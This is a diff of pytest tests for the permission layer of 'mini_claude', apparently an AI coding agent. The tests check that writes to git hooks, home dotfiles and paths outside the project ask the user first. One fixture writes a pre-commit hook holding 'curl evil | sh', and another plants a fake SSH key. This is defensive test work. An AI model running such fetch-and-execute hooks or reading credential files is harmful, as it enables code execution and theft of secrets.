@@ -12,7 +12,7 @@ from mini_claude.errors import ToolError
 from mini_claude.paths import is_within, resolve_path
 from mini_claude.permissions import PermissionRequest, Permissions
 from mini_claude.tools.base import ToolContext, ToolResult
-from tests.tool_harness import REGISTRY, ScriptedUser
+from tests.tool_harness import ScriptedUser, run_tool
 
 
 class World:
@@ -44,20 +44,16 @@ def world(tmp_path: Path, project_dir: Path, isolated_env: Path) -> World:
     return World(tmp_path, project_dir, isolated_env)
 
 
-def run(ctx: ToolContext, name: str, **tool_input: object) -> ToolResult:
-    return REGISTRY.run(name, tool_input, ctx)
-
-
 def write(ctx: ToolContext, path: str | Path, content: str = "x\n") -> ToolResult:
-    return run(ctx, "write_file", file_path=str(path), content=content)
+    return run_tool(ctx, "write_file", file_path=str(path), content=content)
 
 
 OPERATIONS: dict[str, Callable[[World, ToolContext], ToolResult]] = {
-    "read inside": lambda w, ctx: run(ctx, "read_file", file_path="in.txt"),
-    "read outside": lambda w, ctx: run(ctx, "read_file", file_path=str(w.outside / "out.txt")),
+    "read inside": lambda w, ctx: run_tool(ctx, "read_file", file_path="in.txt"),
+    "read outside": lambda w, ctx: run_tool(ctx, "read_file", file_path=str(w.outside / "out.txt")),
     "write inside": lambda w, ctx: write(ctx, "new.txt"),
     "write outside": lambda w, ctx: write(ctx, w.outside / "new.txt"),
-    "shell": lambda w, ctx: run(ctx, "run_shell", command="true"),
+    "shell": lambda w, ctx: run_tool(ctx, "run_shell", command="true"),
 }
 ASKS = {  # mode -> operations that need a yes
     "ask": {"read outside", "write inside", "write outside", "shell"},
@@ -72,7 +68,7 @@ def test_mode_matrix(world: World, mode: str, operation: str) -> None:
     ctx, user = world.ctx(mode, "n")
     result = OPERATIONS[operation](world, ctx)
     asked = operation in ASKS[mode]
-    assert len(user.requests) == int(asked)
+    assert len(user.questions) == int(asked)
     assert result.is_error == asked
     if asked:
         assert result.content.startswith("The user denied permission for")
@@ -84,45 +80,46 @@ def test_yes_allows_once_only(world: World) -> None:
     assert not write(ctx, "a.txt").is_error
     assert write(ctx, "a.txt", "changed").is_error
     assert (world.project / "a.txt").read_text() == "x\n"
-    assert len(user.requests) == 2
+    assert len(user.questions) == 2
 
 
 def test_always_covers_later_calls_of_that_tool_inside_the_project(world: World) -> None:
     ctx, user = world.ctx("ask", "a")
     assert not write(ctx, "a.txt").is_error
     assert not write(ctx, "sub/b.txt").is_error
-    assert len(user.requests) == 1
+    assert len(user.questions) == 1
     # Another tool, a path outside, and a sensitive path each still ask.
-    assert run(ctx, "edit_file", file_path="a.txt", old_string="x", new_string="y").is_error
+    assert run_tool(ctx, "edit_file", file_path="a.txt", old_string="x", new_string="y").is_error
     assert write(ctx, world.outside / "c.txt").is_error
     assert write(ctx, ".git/hooks/pre-commit").is_error
-    assert [r.tool for r in user.requests] == ["write_file", "edit_file", "write_file", "write_file"]
-    assert [r.allow_always for r in user.requests] == [True, True, False, False]
+    assert [r.tool for r in user.questions] == ["write_file", "edit_file", "write_file", "write_file"]
+    assert [r.allow_always for r in user.questions] == [True, True, False, False]
 
 
 def test_always_on_an_outside_write_only_allows_that_one(world: World) -> None:
     ctx, user = world.ctx("accept-edits", "a", "n")
     assert not write(ctx, world.outside / "a.txt").is_error
     assert write(ctx, world.outside / "b.txt").is_error
-    assert len(user.requests) == 2
+    assert len(user.questions) == 2
 
 
 def test_always_for_shell_covers_every_later_command(world: World) -> None:
     ctx, user = world.ctx("accept-edits", "a")
-    assert run(ctx, "run_shell", command="true").content == "(no output)\nExit code: 0"
-    assert run(ctx, "run_shell", command="echo second").content == "second\nExit code: 0"
-    assert user.requests == [PermissionRequest("run_shell", "shell", "true", "run a shell command")]
+    assert run_tool(ctx, "run_shell", command="true").content == "(no output)\nExit code: 0"
+    assert run_tool(ctx, "run_shell", command="echo second").content == "second\nExit code: 0"
+    assert user.questions == [PermissionRequest("run_shell", "shell", "true", "run a shell command")]
 
 
 def test_always_for_outside_reads_does_not_cover_home_dotfiles(world: World) -> None:
     (world.home / ".ssh").mkdir()
     (world.home / ".ssh" / "id_rsa").write_text("secret\n")
     ctx, user = world.ctx("accept-edits", "a", "y", "n")
-    assert not run(ctx, "read_file", file_path=str(world.outside / "out.txt")).is_error
-    assert not run(ctx, "read_file", file_path=str(world.outside / "out.txt"), limit=1).is_error
-    assert not run(ctx, "grep_search", pattern="x", path=str(world.outside)).is_error  # another tool: asks
-    assert run(ctx, "read_file", file_path="~/.ssh/id_rsa").is_error
-    assert [(r.tool, r.reason) for r in user.requests] == [
+    assert not run_tool(ctx, "read_file", file_path=str(world.outside / "out.txt")).is_error
+    assert not run_tool(ctx, "read_file", file_path=str(world.outside / "out.txt"), limit=1).is_error
+    # another tool: asks
+    assert not run_tool(ctx, "grep_search", pattern="x", path=str(world.outside)).is_error
+    assert run_tool(ctx, "read_file", file_path="~/.ssh/id_rsa").is_error
+    assert [(r.tool, r.reason) for r in user.questions] == [
         ("read_file", "outside the project"),
         ("grep_search", "outside the project"),
         ("read_file", "a dotfile in your home folder"),
@@ -139,7 +136,7 @@ def test_no_one_to_ask_means_denied(world: World) -> None:
     user = ScriptedUser("y")
     ctx.permissions.ask = user  # the REPL installs its prompt later
     assert not write(ctx, "a.txt").is_error
-    assert len(user.requests) == 1
+    assert len(user.questions) == 1
 
 
 @pytest.mark.parametrize("mode", ["accept-edits", "bypass"])
@@ -148,7 +145,7 @@ def test_git_hooks_always_ask(world: World, mode: str) -> None:
     result = write(ctx, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
     assert result.is_error
     assert not (world.project / ".git/hooks/pre-commit").exists()
-    assert user.requests == [
+    assert user.questions == [
         PermissionRequest(
             "write_file",
             "write",
@@ -171,7 +168,7 @@ def test_the_enclosing_repositorys_git_asks_when_started_in_a_subfolder(world: W
 
     assert result.is_error
     assert not (world.project / ".git/hooks/pre-commit").exists()
-    assert [request.reason for request in user.requests] == [
+    assert [request.reason for request in user.questions] == [
         "inside a git directory (its hooks and config run code)"
     ]
 
@@ -182,8 +179,8 @@ def test_the_enclosing_repositorys_git_asks_when_started_in_a_subfolder(world: W
 def test_home_dotfiles_always_ask_even_in_bypass(world: World, target: str) -> None:
     ctx, user = world.ctx("bypass", "n")
     assert write(ctx, target).is_error
-    assert user.requests[0].target == str(world.home / target[2:])
-    assert user.requests[0].reason == "a dotfile in your home folder"
+    assert user.questions[0].target == str(world.home / target[2:])
+    assert user.questions[0].reason == "a dotfile in your home folder"
     assert (world.home / ".bashrc").read_text() == "# rc\n"
 
 
@@ -191,17 +188,17 @@ def test_plain_home_file_follows_the_outside_rule(world: World) -> None:
     ctx, user = world.ctx("bypass")
     assert not write(ctx, "~/notes.txt").is_error
     assert (world.home / "notes.txt").read_text() == "x\n"
-    assert user.requests == []
+    assert user.questions == []
 
 
 def test_memory_dir_never_asks_but_the_rest_of_the_app_dir_does(world: World) -> None:
     ctx, user = world.ctx("ask", "n")
     assert not write(ctx, world.memory / "fact.md").is_error
-    assert not run(ctx, "read_file", file_path=str(world.memory / "fact.md")).is_error
-    assert user.requests == []
+    assert not run_tool(ctx, "read_file", file_path=str(world.memory / "fact.md")).is_error
+    assert user.questions == []
     ctx, user = world.ctx("bypass", "n")
     assert write(ctx, world.app_home / "settings.json").is_error
-    assert user.requests[0].reason == "mini-claude's own settings"
+    assert user.questions[0].reason == "mini-claude's own settings"
 
 
 @pytest.mark.parametrize("mode", ["accept-edits", "bypass"])
@@ -213,7 +210,7 @@ def test_project_in_a_dot_folder_still_asks_for_every_write(world: World, mode: 
     assert not write(ctx, dotfiles / "bashrc").is_error
     assert write(ctx, "bashrc", "changed\n").is_error  # the "y" covered one call only
     assert (dotfiles / "bashrc").read_text() == "x\n"
-    assert [(r.reason, r.allow_always) for r in user.requests] == [
+    assert [(r.reason, r.allow_always) for r in user.questions] == [
         ("a dotfile in your home folder", False),
         ("a dotfile in your home folder", False),
     ]
@@ -224,7 +221,7 @@ def test_sibling_with_a_common_prefix_is_outside(world: World, tmp_path: Path) -
     evil.mkdir()
     ctx, user = world.ctx("accept-edits", "n")
     assert write(ctx, f"../{evil.name}/x.txt").is_error
-    assert user.requests[0].reason == "outside the project"
+    assert user.questions[0].reason == "outside the project"
     assert not is_within(evil, world.project)
     assert is_within(world.project / "a" / ".." / "b", world.project)
 
@@ -232,10 +229,10 @@ def test_sibling_with_a_common_prefix_is_outside(world: World, tmp_path: Path) -
 def test_symlink_inside_the_project_to_outside_asks_for_read_and_write(world: World) -> None:
     (world.project / "escape.txt").symlink_to(world.outside / "out.txt")
     ctx, user = world.ctx("accept-edits", "n", "n")
-    assert run(ctx, "read_file", file_path="escape.txt").is_error
+    assert run_tool(ctx, "read_file", file_path="escape.txt").is_error
     assert write(ctx, "escape.txt").is_error
     target = str(world.outside / "out.txt")
-    assert [(r.action, r.target) for r in user.requests] == [("read", target), ("write", target)]
+    assert [(r.action, r.target) for r in user.questions] == [("read", target), ("write", target)]
     assert (world.outside / "out.txt").read_text() == "outside\n"
 
 
@@ -244,18 +241,18 @@ def test_dangling_symlink_as_write_target(world: World) -> None:
     (world.project / "dangling-in").symlink_to(world.project / "later.txt")
     ctx, user = world.ctx("accept-edits", "y")
     assert not write(ctx, "dangling").is_error
-    assert user.requests[0].target == str(world.outside / "created-by-link.txt")
+    assert user.questions[0].target == str(world.outside / "created-by-link.txt")
     assert (world.outside / "created-by-link.txt").read_text() == "x\n"
     assert (world.project / "dangling").is_symlink()
     assert not write(ctx, "dangling-in").is_error  # resolves inside: no question
-    assert len(user.requests) == 1
+    assert len(user.questions) == 1
 
 
 def test_symlinked_parent_folder_is_judged_by_its_target(world: World) -> None:
     (world.project / "vendor").symlink_to(world.outside, target_is_directory=True)
     ctx, user = world.ctx("accept-edits", "n")
     assert write(ctx, "vendor/new/file.txt").is_error
-    assert user.requests[0].target == str(world.outside / "new" / "file.txt")
+    assert user.questions[0].target == str(world.outside / "new" / "file.txt")
     assert not (world.outside / "new").exists()
 
 
@@ -264,10 +261,10 @@ def test_tilde_expansion_and_bad_names(world: World) -> None:
     assert resolve_path("a/../b.txt", world.project) == world.project / "b.txt"
     ctx, user = world.ctx("bypass")
     for bad in ["a\0b", "a\nb", "", "  "]:
-        result = run(ctx, "read_file", file_path=bad)
+        result = run_tool(ctx, "read_file", file_path=bad)
         assert result.is_error and "\n" not in result.content
-    assert "NUL byte or a line break" in run(ctx, "write_file", file_path="x\n.txt", content="").content
-    assert user.requests == []
+    assert "NUL byte or a line break" in run_tool(ctx, "write_file", file_path="x\n.txt", content="").content
+    assert user.questions == []
     with pytest.raises(ToolError, match="empty"):
         resolve_path("", world.project)
 
@@ -276,8 +273,8 @@ def test_reading_inside_git_is_fine(world: World) -> None:
     (world.project / ".git").mkdir()
     (world.project / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
     ctx, user = world.ctx("ask")
-    assert run(ctx, "read_file", file_path=".git/HEAD").content == "     1\tref: refs/heads/main"
-    assert user.requests == []
+    assert run_tool(ctx, "read_file", file_path=".git/HEAD").content == "     1\tref: refs/heads/main"
+    assert user.questions == []
 
 
 def test_unknown_mode_is_refused(world: World) -> None:
